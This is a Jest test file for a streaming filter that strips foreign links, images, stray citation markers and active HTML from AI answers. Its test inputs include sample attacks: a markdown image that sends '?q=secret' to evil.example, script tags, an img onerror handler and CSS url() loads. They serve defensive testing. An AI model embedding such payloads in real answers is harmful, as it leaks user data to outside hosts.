import { expect, test } from '@jest/globals';
import { cleanAnswer, createAnswerFilter } from './answer-filter.ts';

const options = { sourceCount: 3, isSourceAddress: (address: string) => address === 'https://docs.example/start' };

const cases: [rule: string, text: string, shown: string][] = [
  ['real markers stay', 'It is so [1]. And so [2][3].', 'It is so [1]. And so [2][3].'],
  ['markers of nothing go', 'It is so [4]. And so [0][2].', 'It is so. And so [2].'],
  ['lists of markers are taken apart', 'It is so [1, 3; 9].', 'It is so [1][3].'],
  ['wide brackets are markers too', 'It is so【2】.', 'It is so[2].'],
  ['images go', 'Look: ![x](https://evil.example/?q=secret) there', 'Look:  there'],
  ['links lose their target', 'Read [this page](https://evil.example/a "t").', 'Read this page.'],
  ['a marker that is a link is a marker', 'So [1](https://evil.example).', 'So [1].'],
  ['linked images go', '[![x](https://e.example/i)](https://e.example/l) end', ' end'],
  ['nested links do not survive', '[a[b](c)](https://evil.example/?q=1)', 'a[b]'],
  ['addresses that are in no source go', 'Go to https://evil.example/a?b=c or www.evil.example now', 'Go to  or  now'],
  ['addresses of sources stay', 'Go to https://docs.example/start.', 'Go to https://docs.example/start.'],
  ['active HTML goes', 'a <img src=x onerror=1> b <SCRIPT>c</script> d', 'a  b c d'],
  ['other angle brackets stay', 'if a < b then List<String>', 'if a < b then List<String>'],
  ['other elements that could load something go', 'a <div style="background:url(//e.example/x)">b</div>', 'a b</div>'],
  ['addresses within a word go', '_https://evil.example/a_ ahttps://evil.example _www.evil.example', '_ a _'],
  ['addresses without a scheme go', 'See //evil.example/p.png?q=1 and a//b.', 'See  and a//b.'],
  ['definitions in quotes and lists define nothing', '> [it]: //evil.example/x\n- [a]: b', '> [it] : \n- [a] : b'],
  ['definitions over two lines define nothing', '[i\nt]: //evil.example/x', '[i\nt] : '],
  ['definitions of links go', 'See [it][x].\n[x]: https://evil.example', 'See [it][x].\n'],
];

test.each(cases)('%s', (_rule, text, shown) => {
  const clean = cleanAnswer(text, options);
  if (_rule.startsWith('nested')) expect(clean).not.toMatch(/\]\(|evil/);
  else expect(clean).toBe(shown);
});

test('in pieces of any size no image, link, foreign address or false marker gets through', () => {
  const text = cases.map(([, one]) => one).join(' word\n');
  for (let size = 1; size <= 40; size += 1) {
    const filter = createAnswerFilter(options);
    let shown = '';
    for (let at = 0; at < text.length; at += size) shown += filter.push(text.slice(at, at + size));
    shown += filter.end();
    expect(shown).not.toMatch(/\]\(|evil|<img|<script|\[[04-9]\]/i);
    expect(shown).toContain('It is so [1]. And so [2][3].');
    expect(shown).toContain('https://docs.example/start.');
  }
});

test('words are shown as they come', () => {
  const filter = createAnswerFilter(options);
  expect(filter.push(' The sky')).toBe('The');
  expect(filter.push(' is blue')).toBe(' sky is');
  expect(filter.push(' [')).toBe(' blue');
  expect(filter.push('1')).toBe('');
  expect(filter.push(']. So')).toBe(' [1].');
  expect(filter.end()).toBe(' So');
});

test('what is written without spaces is shown sentence by sentence, and what has no end at all in parts', () => {
  const chinese = createAnswerFilter(options);
  expect(chinese.push('潮水每天')).toBe('');
  expect(chinese.push('涨两次[1]。它由')).toBe('潮水每天涨两次[1]。');
  const endless = createAnswerFilter(options);
  let shown = '';
  for (let index = 0; index < 1000; index += 1) shown += endless.push('abcdefg');
  expect(shown.length).toBeGreaterThan(5000);
  for (let index = 0; index < 300; index += 1) shown += endless.push('ahttps://evil.example/');
  expect(shown + endless.end()).not.toMatch(/https?:\/\/evil/);
});

test('a bracket that never closes does not hold the answer back for ever', () => {
  const filter = createAnswerFilter(options);
  let shown = filter.push('[ begins ');
  for (let index = 0; index < 1000; index += 1) shown += filter.push('and goes on ');
  expect(shown.length).toBeGreaterThan(9_000);
  expect(shown).not.toContain('[');
});
